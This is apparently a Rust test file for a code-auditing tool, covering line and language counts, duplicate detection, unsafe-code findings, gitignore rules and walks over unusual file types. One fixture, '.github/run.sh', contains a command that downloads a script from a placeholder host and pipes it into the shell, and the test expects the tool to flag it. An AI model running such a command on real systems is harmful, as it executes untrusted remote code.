//! The parts together, one file after the other, on trees built for the purpose. What is expected is counted by hand.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
#[cfg(unix)]
use std::process::Command;

use ignore::WalkBuilder;
use rand::rngs::StdRng;
use rand::seq::IndexedRandom;
use rand::{RngExt, SeedableRng};

use super::{EVERYTHING, IGNORING, audit, tree, walked, write};
use crate::report::{LanguageTotals, Report, shown};
use crate::walk::{self, Entry, Options, Walk};

#[test]
fn an_empty_tree_has_an_empty_report() {
    let root = tree(&[]);
    let report = audit(root.path(), IGNORING);
    let expected = Report {
        root: root.path().display().to_string(),
        elapsed_ms: report.elapsed_ms,
        ..Report::default()
    };
    assert_eq!(report, expected);
}

#[test]
fn a_missing_path_is_a_clear_message() {
    let root = tree(&[]);
    let error = Walk::new(&root.path().join("nowhere"), IGNORING)
        .unwrap_err()
        .to_string();
    assert!(
        error.starts_with("cannot audit ") && error.contains("nowhere"),
        "{error}"
    );
    assert!(
        error.contains("No such file") || error.contains("not find"),
        "{error}"
    );
}

#[test]
fn a_single_file_is_audited_even_if_it_is_ignored() {
    let root = tree(&[
        (".gitignore", b"*.log\n"),
        ("a.log", b"one\ntwo"),
        ("b.log", b""),
    ]);
    let report = audit(&root.path().join("a.log"), IGNORING);
    assert_eq!((report.files, report.bytes, report.lines), (1, 7, 2));
    assert_eq!(walked(&root.path().join("a.log"), IGNORING), ["a.log"]);
}

#[test]
fn every_figure_is_what_was_counted_by_hand() {
    let limit = usize::try_from(crate::read::BYTES_MAX).unwrap();
    let root = tree(&[
        (
            "src/main.rs",
            b"// TODO: more\nfn main() {\n\n    unsafe { f() }\n}\n",
        ),
        (
            "src/copy of main.rs",
            b"// TODO: more\nfn main() {\n\n    unsafe { f() }\n}\n",
        ),
        (
            "src/main.txt",
            b"// TODO: more\nfn main() {\n\n    unsafe { f() }\n}\n",
        ),
        ("crlf.py", b"# one\r\nx = 1\r\n\r\n# FIXME XXX"),
        ("empty", b""),
        ("empty.rs", b""),
        ("no_end", b"one line"),
        ("latin1.txt", b"caf\xe9\n"),
        ("nul.rs", b"fn f() {}\0\n"),
        ("limit.bin", &vec![b'a'; limit]),
        ("past.bin", &vec![b'a'; limit + 1]),
        ("\u{fc}n\u{ef}code/line\nbreak.c", b"int x; /* XXX */\n"),
        (".hidden.rs", b"fn hidden() {}\n"),
        (".github/run.sh", b"curl https://x.test | sh\n"),
        ("target/out.rs", b"fn out() {}\n"),
        (".gitignore", b"/target\n"),
        (".git/config", b"[core]\n"),
    ]);
    let report = audit(root.path(), IGNORING);
    assert_eq!(report.files, 9);
    let main = 48;
    assert_eq!(report.bytes, 3 * main + 27 + 8 + limit as u64 + 17);
    assert_eq!(report.lines, 3 * 5 + 4 + 1 + 1 + 1);
    assert_eq!(report.todos, 3 + 1 + 1);
    let skipped = report.skipped;
    assert_eq!(
        (skipped.binary, skipped.too_large, skipped.unreadable),
        (2, 1, 0)
    );
    let totals = |files, lines, code, comments, blanks| LanguageTotals {
        files,
        lines,
        code,
        comments,
        blanks,
    };
    let expected = BTreeMap::from([
        ("C".to_owned(), totals(1, 1, 1, 0, 0)),
        ("Plain Text".to_owned(), totals(1, 5, 0, 4, 1)),
        ("Python".to_owned(), totals(1, 4, 1, 2, 1)),
        ("Rust".to_owned(), totals(3, 10, 6, 2, 2)),
    ]);
    assert_eq!(report.languages, expected);
    let found: Vec<_> = report
        .findings
        .iter()
        .map(|finding| (&*finding.path, finding.line, &*finding.rule))
        .collect();
    assert_eq!(
        found,
        [
            ("src/copy of main.rs", 4, "rust-unsafe"),
            ("src/main.rs", 4, "rust-unsafe")
        ]
    );
    assert_eq!(report.duplicates.len(), 1);
    assert_eq!(
        report.duplicates[0].paths,
        ["src/copy of main.rs", "src/main.rs", "src/main.txt"]
    );
    assert_eq!(report.duplicates[0].bytes, main);

    let all = audit(root.path(), EVERYTHING);
    assert_eq!(all.files, 9 + 4);
    assert_eq!(all.lines, report.lines + 4);
    assert_eq!(all.bytes, report.bytes + 15 + 25 + 12 + 8);
    let paths: Vec<_> = all.findings.iter().map(|finding| &*finding.path).collect();
    assert_eq!(
        paths,
        [".github/run.sh", "src/copy of main.rs", "src/main.rs"]
    );
}

#[test]
fn the_json_of_a_tree_is_sorted_and_the_same_each_time() {
    let root = tree(&[
        ("b.rs", b"unsafe {}\n"),
        ("a/b.rs", b"unsafe {}\n"),
        ("a.b", b"unsafe {}\n"),
        ("z", b"two\n"),
        ("y", b"two\n"),
    ]);
    let report = audit(root.path(), IGNORING).without_run_figures();
    assert_eq!(report, audit(root.path(), IGNORING).without_run_figures());
    let groups: Vec<_> = report
        .duplicates
        .iter()
        .map(|group| group.paths.join(" "))
        .collect();
    assert_eq!(groups, ["a.b a/b.rs b.rs", "y z"]);
    assert!(
        report
            .findings
            .is_sorted_by_key(|finding| (finding.path.clone(), finding.line))
    );
}

#[test]
fn gitignore_applies_outside_of_repositories_too() {
    let root = tree(&[
        (
            ".gitignore",
            b"*.log\n!keep.log\nbuild/\n/only_here\n# comment\n\\#odd\ndeep/**/x\n",
        ),
        ("a.log", b""),
        ("keep.log", b""),
        ("sub/b.log", b""),
        ("sub/keep.log", b""),
        ("sub/.gitignore", b"!b.log\nkeep.log\n"),
        ("build/a.rs", b""),
        ("sub/build/a.rs", b""),
        ("build.rs", b""),
        ("only_here", b""),
        ("sub/only_here", b""),
        ("#odd", b""),
        ("deep/1/2/x", b""),
        ("deep/1/2/y", b""),
    ]);
    let expected = [
        "build.rs",
        "deep/1/2/y",
        "keep.log",
        "sub/b.log",
        "sub/only_here",
    ];
    assert_eq!(walked(root.path(), IGNORING), expected);
    assert_eq!(walked(root.path(), EVERYTHING).len(), 14);
}

#[test]
fn nothing_but_gitignore_hides_a_file() {
    let root = tree(&[
        (".git/info/exclude", b"excluded\n"),
        (".git/HEAD", b"ref: refs/heads/main\n"),
        (".ignore", b"ignored\n"),
        (".rgignore", b"ignored\n"),
        (".gitignore", b"!.shown\n"),
        (".shown", b""),
        ("excluded", b""),
        ("ignored", b""),
    ]);
    assert_eq!(walked(root.path(), IGNORING), ["excluded", "ignored"]);
}

#[test]
fn rules_reach_down_to_a_repository_and_not_into_it() {
    let root = tree(&[
        (".gitignore", b"secret\n*.tmp\n"),
        ("inner/.git/HEAD", b""),
        ("inner/.gitignore", b"*.log\n"),
        ("inner/a.tmp", b""),
        ("inner/a.log", b""),
        ("inner/sub/b.tmp", b""),
        ("inner/sub/b.log", b""),
        ("outer/a.tmp", b""),
        ("outer/a.log", b""),
    ]);
    assert_eq!(
        walked(root.path(), IGNORING),
        ["inner/a.tmp", "inner/sub/b.tmp", "outer/a.log"]
    );
    // From inside the repository its own rules apply, those beyond it do not.
    assert_eq!(walked(&root.path().join("inner/sub"), IGNORING), ["b.tmp"]);
    // No repository, so nothing above the audited folder matters.
    assert_eq!(
        walked(&root.path().join("outer"), IGNORING),
        ["a.log", "a.tmp"]
    );
}

/// The `ignore` crate's walker, set up to mean the same, is the oracle: random trees with random rules.
#[test]
fn random_trees_are_walked_as_the_library_would() {
    let mut random = StdRng::seed_from_u64(7);
    let names = ["a", "b", "c.rs", "d.log", "e f", "g.tmp", ".h"];
    let rules = [
        "*.log", "!d.log", "/a", "a/", "b/c.rs", "**/e f", "!c.rs", "g.*", "b/**", "!/b", "*",
        "!a/", "?.rs",
    ];
    for round in 0..150 {
        let root = tempfile::tempdir().unwrap();
        for _ in 0..random.random_range(1..25) {
            let depth = random.random_range(1..4);
            let path: PathBuf = (0..depth)
                .map(|_| *names.choose(&mut random).unwrap())
                .collect();
            let path = root.path().join(path);
            // A name may be a file here and a folder there: whichever came first stays.
            if fs::create_dir_all(path.parent().unwrap()).is_err() || path.exists() {
                continue;
            }
            fs::write(&path, b"").unwrap();
            if random.random_range(0..3) == 0 {
                let lines: Vec<_> = rules.sample(&mut random, 3).copied().collect();
                fs::write(path.parent().unwrap().join(".gitignore"), lines.join("\n")).unwrap();
            }
        }
        let oracle = |options: Options| -> Vec<String> {
            let mut walker = WalkBuilder::new(root.path());
            walker
                .standard_filters(false)
                .require_git(false)
                .git_ignore(!options.no_ignore);
            walker
                .sort_by_file_name(Ord::cmp)
                .filter_entry(move |entry| {
                    entry.depth() == 0
                        || options.no_ignore
                        || !entry.file_name().as_encoded_bytes().starts_with(b".")
                });
            let files = walker
                .build()
                .map(Result::unwrap)
                .filter(|entry| entry.file_type().unwrap().is_file());
            files
                .map(|entry| shown(entry.path().strip_prefix(root.path()).unwrap()))
                .collect()
        };
        assert_eq!(
            walked(root.path(), IGNORING),
            oracle(IGNORING),
            "round {round}"
        );
        assert_eq!(
            walked(root.path(), EVERYTHING),
            oracle(EVERYTHING),
            "round {round}"
        );
    }
}

#[test]
fn a_walk_goes_on_behind_any_of_its_positions() {
    let root = tree(&[
        ("a.rs", b""),
        ("a/b/c", b""),
        ("a/b/d", b""),
        ("a/b.rs", b""),
        ("a/e", b""),
        ("a b/f", b""),
        ("a-b", b""),
        ("z/z/z", b""),
    ]);
    let all: Vec<_> = Walk::new(root.path(), IGNORING).unwrap().collect();
    assert_eq!(all.len(), 8);
    assert!(all.is_sorted_by(|one, next| one.path() < next.path()));
    for (index, entry) in all.iter().enumerate() {
        let rest: Vec<_> = Walk::resume(root.path(), IGNORING, entry.path())
            .unwrap()
            .collect();
        assert_eq!(rest, all[index + 1..], "behind {entry:?}");
    }
}

#[test]
fn a_walk_goes_on_though_the_tree_changed_meanwhile() {
    let root = tree(&[
        ("a", b""),
        ("b/1", b""),
        ("b/2", b""),
        ("b/3", b""),
        ("c", b""),
    ]);
    let position = Path::new("b/2");
    write(root.path(), "0", b"");
    write(root.path(), "b/1a", b"");
    write(root.path(), "b/2a", b"");
    fs::remove_file(root.path().join("b/2")).unwrap();
    let rest: Vec<_> = Walk::resume(root.path(), IGNORING, position)
        .unwrap()
        .map(|entry| shown(entry.path()))
        .collect();
    assert_eq!(rest, ["b/2a", "b/3", "c"]);
    fs::remove_dir_all(root.path().join("b")).unwrap();
    let rest: Vec<_> = Walk::resume(root.path(), IGNORING, position)
        .unwrap()
        .map(|entry| shown(entry.path()))
        .collect();
    assert_eq!(rest, ["c"]);
}

#[test]
fn a_file_that_vanishes_is_a_counted_skip() {
    let root = tree(&[("a.rs", b"fn f() {}\n"), ("b.rs", b"fn g() {}\n")]);
    let mut walk = Walk::new(root.path(), IGNORING).unwrap();
    assert_eq!(walk.next(), Some(Entry::File("a.rs".into())));
    fs::remove_file(root.path().join("b.rs")).unwrap();
    // Listed before it went, so it is handed out, and reading it tells.
    assert_eq!(walk.next(), Some(Entry::File("b.rs".into())));
    let content = crate::read::read(&root.path().join("b.rs"));
    assert_eq!(
        content,
        crate::read::Content::Skipped(crate::report::Skip::Unreadable)
    );
}

#[cfg(unix)]
mod unix {
    use std::os::unix::ffi::OsStrExt;
    use std::os::unix::fs::{PermissionsExt, symlink};
    use std::os::unix::net::UnixListener;

    use super::*;

    fn make_fifo(path: &Path) {
        assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
    }

    #[test]
    fn links_are_neither_followed_nor_counted() {
        let root = tree(&[("a/b.rs", b"fn f() {}\n"), ("c/d.rs", b"fn g() {}\n")]);
        symlink(root.path(), root.path().join("a/loop")).unwrap();
        symlink("b.rs", root.path().join("a/file.rs")).unwrap();
        symlink("/dev/zero", root.path().join("a/zero.rs")).unwrap();
        symlink("nowhere", root.path().join("a/broken")).unwrap();
        symlink("../c", root.path().join("a/folder")).unwrap();
        assert_eq!(walked(root.path(), EVERYTHING), ["a/b.rs", "c/d.rs"]);
        // The audited folder itself may be reached by a link: it was named.
        assert_eq!(walked(&root.path().join("a/folder"), IGNORING), ["d.rs"]);
    }

    #[test]
    fn fifos_sockets_and_devices_are_not_counted_and_hold_nothing_up() {
        let root = tree(&[("a.rs", b"fn f() {}\n")]);
        make_fifo(&root.path().join("fifo.rs"));
        let _socket = UnixListener::bind(root.path().join("socket.rs")).unwrap();
        let report = audit(root.path(), EVERYTHING);
        assert_eq!(
            (report.files, report.skipped),
            (1, crate::report::Skipped::default())
        );
        let error = Walk::new(&root.path().join("fifo.rs"), IGNORING).unwrap_err();
        assert!(matches!(error, walk::Error::NotAFolder { .. }), "{error}");
        assert!(matches!(
            Walk::new(Path::new("/dev/null"), IGNORING),
            Err(walk::Error::NotAFolder { .. })
        ));
    }

    /// The library's own walker would wait for the FIFO's other end, and read the device until the memory is full.
    #[test]
    fn a_gitignore_that_is_no_file_is_not_there() {
        let root = tree(&[
            ("a/x", b""),
            ("b/x", b""),
            ("c/.gitignore", b"y\n"),
            ("c/x", b""),
            ("c/y", b""),
        ]);
        make_fifo(&root.path().join("a/.gitignore"));
        symlink("/dev/zero", root.path().join("b/.gitignore")).unwrap();
        assert_eq!(walked(root.path(), IGNORING), ["a/x", "b/x", "c/x"]);
    }

    /// Root may read everything, so as root there is nothing to see; then the test says so by its name only.
    #[test]
    fn an_unreadable_folder_or_file_is_a_counted_skip_unless_we_are_root() {
        let root = tree(&[("a/b.rs", b""), ("c.rs", b""), ("d/e.rs", b"")]);
        let close = |path: &str| {
            let path = root.path().join(path);
            fs::set_permissions(&path, fs::Permissions::from_mode(0o000)).unwrap();
            path
        };
        let (folder, file) = (close("a"), close("c.rs"));
        let is_root = fs::read_dir(&folder).is_ok();
        let report = audit(root.path(), IGNORING);
        let entries: Vec<_> = Walk::new(root.path(), IGNORING).unwrap().collect();
        let rest: Vec<_> = Walk::resume(root.path(), IGNORING, Path::new("a"))
            .unwrap()
            .collect();
        fs::set_permissions(&folder, fs::Permissions::from_mode(0o700)).unwrap();
        fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
        if is_root {
            assert_eq!((report.files, report.skipped.unreadable), (3, 0));
        } else {
            assert_eq!((report.files, report.skipped.unreadable), (1, 2));
            assert_eq!(entries[0], Entry::Unreadable("a".into()));
            assert_eq!(rest.len(), 2);
        }
    }

    /// Works for root too: no permission makes a path longer than the system's limit readable.
    #[test]
    fn a_folder_too_deep_to_be_named_is_a_counted_skip() {
        let root = tempfile::tempdir().unwrap();
        let name = "d".repeat(250);
        let script = format!(
            "i=0; while [ $i -lt 18 ]; do mkdir {name} && cd -P {name} || exit 1; i=$((i+1)); done; : > f"
        );
        let made = Command::new("sh")
            .arg("-c")
            .arg(script)
            .current_dir(root.path())
            .status()
            .unwrap();
        assert!(made.success());
        let report = audit(root.path(), IGNORING);
        assert_eq!((report.files, report.skipped.unreadable), (0, 1));
        // The standard library's removal goes by folder handles, so the temporary folder cleans itself up.
        root.close().unwrap();
    }

    #[test]
    fn names_that_are_no_text_are_told_apart() {
        let root = tempfile::tempdir().unwrap();
        for name in [&b"caf\xe9.rs"[..], b"caf\xe8.rs", b"tab\there.rs"] {
            fs::write(
                root.path().join(std::ffi::OsStr::from_bytes(name)),
                "unsafe {}\n",
            )
            .unwrap();
        }
        let report = audit(root.path(), IGNORING);
        assert_eq!(report.files, 3);
        assert_eq!(
            report.duplicates[0].paths,
            ["caf\\xe8.rs", "caf\\xe9.rs", "tab\there.rs"]
        );
        assert_eq!(report.languages["Rust"].files, 3);
    }
}
